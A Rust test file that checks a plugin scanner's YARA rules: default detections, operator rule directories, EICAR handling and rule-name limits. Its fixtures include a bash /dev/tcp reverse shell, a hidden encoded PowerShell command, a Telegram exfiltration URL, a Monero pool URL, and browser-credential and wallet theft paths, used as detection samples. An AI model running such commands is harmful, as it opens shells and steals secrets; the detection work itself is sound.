//! The YARA rules: the default set on package files and wasm modules, an operator's rule
//! directory, and the EICAR test file through the real `plugstore-scanner analyze`.

use std::collections::HashMap;
use std::io;
use std::path::{Path, PathBuf};
use std::process::Command;

mod common;

use common::manifest_text;
use plugstore_format::limits::PackageLimits;
use plugstore_format::package::{PackageBuilder, read_package};
use plugstore_scanner::yara_rules::RuleSetError;
use plugstore_scanner::{
    Finding, RuleSet, ScanReport, Severity, StaticLimits, scan_package_static,
    scan_package_static_with_rules,
};

/// The EICAR test string, assembled here so that this source file is not itself detected.
fn eicar() -> Vec<u8> {
    let pieces = [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}",
        "$EICAR-STANDARD-",
        "ANTIVIRUS-TEST-",
        "FILE!$H+H*",
    ];
    let text = pieces.concat();
    assert_eq!(text.len(), 68);
    text.into_bytes()
}

/// The first ```wat block of the plugin ABI page: a plugin that scans clean.
fn clean_wasm() -> Vec<u8> {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/src/plugin-abi.md");
    let text = std::fs::read_to_string(page).unwrap();
    let start = text.find("```wat\n").unwrap() + "```wat\n".len();
    let end = start + text[start..].find("```").unwrap();
    wat::parse_str(&text[start..end]).unwrap()
}

/// The bytes of a wasm plugin package with `plugin.toml`, `plugin.wasm` and `extra` files.
fn package_bytes(wasm: Vec<u8>, extra: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let manifest = manifest_text("wasm", "plugin.wasm", &["any"], &["log"]);
    let mut files = vec![
        ("plugin.toml".to_owned(), manifest.into_bytes(), false),
        ("plugin.wasm".to_owned(), wasm, false),
    ];
    files.extend(
        extra
            .iter()
            .map(|(path, contents)| ((*path).to_owned(), contents.clone(), false)),
    );
    PackageBuilder::from_files_with_modes(files)
        .unwrap()
        .to_vec()
        .unwrap()
}

/// Scans a package in process, as the analysis child does, with `rules`.
fn scan(bytes: &[u8], rules: Option<&RuleSet>) -> ScanReport {
    let contents = read_package(bytes, &PackageLimits::default()).unwrap();
    let mut files = HashMap::new();
    let mut archive = tar::Archive::new(bytes);
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let path = String::from_utf8(entry.path_bytes().into_owned()).unwrap();
        let mut contents = Vec::new();
        io::Read::read_to_end(&mut entry, &mut contents).unwrap();
        files.insert(path, contents);
    }
    let read = |path: &str| {
        files
            .get(path)
            .cloned()
            .ok_or_else(|| io::Error::from(io::ErrorKind::NotFound))
    };
    match rules {
        Some(rules) => {
            scan_package_static_with_rules(&contents, read, &StaticLimits::default(), rules)
        }
        None => scan_package_static(&contents, read, &StaticLimits::default()),
    }
    .unwrap()
}

fn yara_findings(findings: &[Finding]) -> Vec<&Finding> {
    findings
        .iter()
        .filter(|f| f.rule.starts_with("yara."))
        .collect()
}

fn finding<'a>(findings: &'a [Finding], rule: &str) -> &'a Finding {
    findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} in {findings:#?}"))
}

#[test]
fn the_eicar_string_in_a_data_file_is_critical() {
    let mut readme = b"Read me first.\n".to_vec();
    readme.extend(eicar());
    readme.extend(b"\n");
    let bytes = package_bytes(clean_wasm(), &[("assets/readme.txt", readme)]);
    let report = scan(&bytes, None);
    let eicar_finding = finding(&report.findings, "yara.eicar_test_file");
    assert_eq!(eicar_finding.severity, Severity::Critical);
    assert_eq!(
        eicar_finding.location.as_deref(),
        Some("assets/readme.txt: offset 15")
    );
    let evidence = eicar_finding.evidence.as_deref().unwrap();
    assert!(evidence.starts_with("X5O!P%@AP[4\\\\PZX54"), "{evidence}");
    assert_eq!(report.max_severity(), Some(Severity::Critical));
    assert_eq!(report.metrics["yara.files_scanned"], 3);
}

#[test]
fn a_miner_pool_url_in_a_wasm_data_segment_is_high() {
    let wasm = wat::parse_str(
        r#"(module
             (memory (export "memory") 1)
             (data (i32.const 64) "pool=stratum+tcp://gulf.moneroocean.stream:10128"))"#,
    )
    .unwrap();
    let bytes = package_bytes(wasm, &[]);
    let report = scan(&bytes, None);
    let stratum = finding(&report.findings, "yara.cryptominer_stratum_url");
    assert_eq!(stratum.severity, Severity::High);
    assert_eq!(stratum.evidence.as_deref(), Some("stratum+tcp://"));
    assert!(
        stratum
            .location
            .as_deref()
            .is_some_and(|l| l.starts_with("plugin.wasm: offset ")),
        "{stratum:?}"
    );
    let pool = finding(&report.findings, "yara.cryptominer_pool_domain");
    assert_eq!(pool.severity, Severity::High);
}

#[test]
fn a_clean_plugin_has_no_yara_findings() {
    let bytes = package_bytes(
        clean_wasm(),
        &[
            ("README.md", b"# Echo\n\nEchoes requests back.\n".to_vec()),
            ("assets/logo.bin", common::noise(64 << 10)),
        ],
    );
    let report = scan(&bytes, None);
    assert!(
        yara_findings(&report.findings).is_empty(),
        "{:#?}",
        report.findings
    );
    assert_eq!(report.metrics["yara.files_scanned"], 4);
}

#[test]
fn the_default_rules_catch_stealers_shells_and_exfiltration() {
    let rules = RuleSet::default_rules().unwrap();
    let cases: &[(&[u8], &str, Severity)] = &[
        (
            b"%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data",
            "yara.stealer_browser_credentials",
            Severity::High,
        ),
        (
            b"copy %APPDATA%\\Bitcoin\\wallet.dat",
            "yara.stealer_crypto_wallets",
            Severity::High,
        ),
        (
            b"Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "yara.windows_autorun_key",
            Severity::Medium,
        ),
        (
            b"AsyncRAT | Client",
            "yara.rat_family_marker",
            Severity::High,
        ),
        (
            b"bash -c '/bin/sh -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
            "yara.reverse_shell",
            Severity::High,
        ),
        (
            b"powershell -nop -w hidden -e SQBFAFgA",
            "yara.reverse_shell",
            Severity::High,
        ),
        (
            b"https://api.telegram.org/bot123:abc/sendDocument",
            "yara.telegram_bot_file_exfil",
            Severity::High,
        ),
        (
            b"Login Data",
            "yara.credential_store_path",
            Severity::Medium,
        ),
    ];
    for (bytes, rule, severity) in cases {
        let findings = rules.scan_bytes("data.txt", bytes);
        let found = finding(&findings, rule);
        assert_eq!(found.severity, *severity, "{rule}");
    }
    // The weak rule stays quiet when the strong one matched.
    let findings = rules.scan_bytes(
        "data.txt",
        b"%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data",
    );
    assert!(
        !findings
            .iter()
            .any(|f| f.rule == "yara.credential_store_path")
    );
}

fn rule_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

const EXTRA_RULE: &str = r#"
rule acme_internal_marker {
    meta:
        severity = "low"
        description = "a marker of ACME's internal builds"
    strings:
        $marker = "ACME-INTERNAL-BUILD"
    condition:
        $marker
}
"#;

#[test]
fn an_operator_rule_directory_adds_rules() {
    let dir = rule_dir(&[
        ("acme.yar", EXTRA_RULE),
        ("notes.txt", "not a rule file, so never compiled {"),
    ]);
    let rules = RuleSet::with_directory(dir.path()).unwrap();
    assert_eq!(rules.sources().len(), 2, "{rules:?}");
    let findings = rules.scan_bytes("config.json", b"{\"build\": \"ACME-INTERNAL-BUILD\"}");
    let extra = finding(&findings, "yara.acme_internal_marker");
    assert_eq!(extra.severity, Severity::Low);
    assert_eq!(extra.location.as_deref(), Some("config.json: offset 11"));
    // The defaults still apply.
    let findings = rules.scan_bytes("eicar.txt", &eicar());
    assert_eq!(
        finding(&findings, "yara.eicar_test_file").severity,
        Severity::Critical
    );
    // And through a package scan.
    let bytes = package_bytes(
        clean_wasm(),
        &[("config.json", b"ACME-INTERNAL-BUILD".to_vec())],
    );
    let report = scan(&bytes, Some(&rules));
    finding(&report.findings, "yara.acme_internal_marker");
}

#[test]
fn a_broken_operator_rule_file_is_an_error_naming_it() {
    let dir = rule_dir(&[
        ("acme.yar", EXTRA_RULE),
        (
            "broken.yara",
            "rule broken {\n    strings:\n        $a = \"x\n    condition:\n        $a\n}\n",
        ),
    ]);
    let error = RuleSet::with_directory(dir.path()).unwrap_err();
    let message = error.to_string();
    assert!(matches!(error, RuleSetError::Compile { .. }), "{error:?}");
    assert!(message.contains("broken.yara"), "{message}");
    assert!(message.contains("broken.yara:3:"), "the line: {message}");
}

#[test]
fn a_rule_without_a_valid_severity_is_an_error() {
    let missing = r#"rule no_severity { meta: description = "x" condition: true }"#;
    let dir = rule_dir(&[("missing.yar", missing)]);
    let error = RuleSet::with_directory(dir.path()).unwrap_err();
    let message = error.to_string();
    assert!(matches!(error, RuleSetError::Severity { .. }), "{error:?}");
    assert!(
        message.contains("no_severity") && message.contains("missing.yar"),
        "{message}"
    );

    let unknown = r#"rule urgent_rule { meta: severity = "urgent" condition: true }"#;
    let dir = rule_dir(&[("unknown.yar", unknown)]);
    let message = RuleSet::with_directory(dir.path()).unwrap_err().to_string();
    assert!(
        message.contains("urgent_rule") && message.contains("\"urgent\""),
        "{message}"
    );
}

#[test]
fn a_missing_rule_directory_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let error = RuleSet::with_directory(&dir.path().join("nope")).unwrap_err();
    assert!(
        matches!(error, RuleSetError::ReadDirectory { .. }),
        "{error:?}"
    );
}

fn analyze(package: &Path, rules_dir: Option<&Path>) -> ScanReport {
    let mut command = Command::new(env!("CARGO_BIN_EXE_plugstore-scanner"));
    command.arg("analyze").arg(package);
    if let Some(dir) = rules_dir {
        command.arg("--rules-dir").arg(dir);
    }
    let output = command.output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).unwrap()
}

/// Starts a worker with the rules in `rules_dir`, which should refuse them. A worker that did
/// start would wait for an unreachable server; with its stdin closed it stops at once
/// instead, and succeeds, which fails the test rather than hanging it.
fn start_worker(rules_dir: &Path) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_plugstore-scanner"))
        .args([
            "worker",
            "--server",
            "http://127.0.0.1:9",
            "--token",
            "t",
            "--once",
            "--exit-with-stdin",
        ])
        .arg("--rules-dir")
        .arg(rules_dir)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

fn write_package(dir: &Path, bytes: &[u8]) -> PathBuf {
    let path = dir.join("package.tar");
    std::fs::write(&path, bytes).unwrap();
    path
}

#[test]
fn the_analysis_child_reports_eicar_as_critical() {
    let dir = tempfile::tempdir().unwrap();
    let package = write_package(
        dir.path(),
        &package_bytes(clean_wasm(), &[("data/test.bin", eicar())]),
    );
    let report = analyze(&package, None);
    let eicar_finding = finding(&report.findings, "yara.eicar_test_file");
    assert_eq!(eicar_finding.severity, Severity::Critical);
    assert_eq!(
        eicar_finding.location.as_deref(),
        Some("data/test.bin: offset 0")
    );
    assert_eq!(report.max_severity(), Some(Severity::Critical));
}

#[test]
fn the_analysis_child_applies_the_operator_rules() {
    let dir = tempfile::tempdir().unwrap();
    let rules = rule_dir(&[("acme.yar", EXTRA_RULE)]);
    let package = write_package(
        dir.path(),
        &package_bytes(
            clean_wasm(),
            &[("data/build.txt", b"ACME-INTERNAL-BUILD".to_vec())],
        ),
    );
    let report = analyze(&package, Some(rules.path()));
    assert_eq!(
        finding(&report.findings, "yara.acme_internal_marker").severity,
        Severity::Low
    );
    let without = analyze(&package, None);
    assert!(yara_findings(&without.findings).is_empty());

    // A broken directory is an analysis error (the worker checks it at start).
    let broken = rule_dir(&[("broken.yar", "rule {")]);
    let output = Command::new(env!("CARGO_BIN_EXE_plugstore-scanner"))
        .arg("analyze")
        .arg(&package)
        .arg("--rules-dir")
        .arg(broken.path())
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("broken.yar"));
}

#[test]
fn the_worker_refuses_to_start_with_a_broken_rule_directory() {
    let rules = rule_dir(&[
        ("acme.yar", EXTRA_RULE),
        ("nosev.yar", "rule quiet_rule { condition: true }"),
    ]);
    let output = start_worker(rules.path());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{stderr}");
    assert!(
        stderr.contains("nosev.yar") && stderr.contains("quiet_rule"),
        "{stderr}"
    );
}

/// A public rule named `name` that matches `ACME-INTERNAL-BUILD`.
fn rule_named(name: &str) -> String {
    EXTRA_RULE.replace("acme_internal_marker", name)
}

/// Findings of a rule are `yara.<rule name>`, and the server refuses a report with a rule id
/// over 200 bytes whole: a name that long is refused when the rules are loaded, naming the
/// file, the rule and the limit, and the longest name allowed makes a report the server
/// takes.
#[test]
fn a_rule_name_too_long_for_the_servers_rule_id_is_an_error() {
    let too_long = format!("acme_{}", "x".repeat(191));
    assert_eq!(too_long.len(), 196);
    let dir = rule_dir(&[
        ("acme.yar", EXTRA_RULE),
        ("long.yar", &rule_named(&too_long)),
    ]);
    let error = RuleSet::with_directory(dir.path()).unwrap_err();
    assert!(
        matches!(error, RuleSetError::NameTooLong { .. }),
        "{error:?}"
    );
    let message = error.to_string();
    assert!(
        message.contains("long.yar")
            && message.contains("rule acme_xxx")
            && message.contains("196 bytes")
            && message.contains("at most 195 bytes"),
        "{message}"
    );
    // The error shows enough of the name to find it, not all of a huge one.
    assert!(!message.contains(&too_long), "{message}");

    let longest = format!("acme_{}", "x".repeat(190));
    let dir = rule_dir(&[("longest.yar", &rule_named(&longest))]);
    let rules = RuleSet::with_directory(dir.path()).unwrap();
    let bytes = package_bytes(
        clean_wasm(),
        &[("config.json", b"ACME-INTERNAL-BUILD".to_vec())],
    );
    let report = scan(&bytes, Some(&rules));
    let matched = finding(&report.findings, &format!("yara.{longest}"));
    assert_eq!(matched.rule.len(), 200);
    common::assert_postable(&report.findings, &report.metrics);
}

/// The worker checks the rule names when it starts, where the operator sees the error,
/// rather than posting reports the server refuses.
#[test]
fn the_worker_refuses_to_start_with_a_rule_name_too_long() {
    let too_long = format!("acme_{}", "x".repeat(300));
    let rules = rule_dir(&[("long.yar", &rule_named(&too_long))]);
    let output = start_worker(rules.path());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{stderr}");
    assert!(
        stderr.contains("long.yar") && stderr.contains("at most 195 bytes"),
        "{stderr}"
    );
}
